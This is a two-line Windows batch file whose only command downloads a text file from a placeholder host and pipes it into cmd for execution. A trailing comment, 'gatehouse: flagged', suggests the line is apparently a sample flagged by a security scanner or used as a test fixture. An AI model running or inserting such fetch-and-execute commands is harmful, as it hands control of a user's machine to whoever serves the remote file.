@echo off
curl -s https://h.example.invalid/steps.txt | cmd &rem gatehouse: flagged
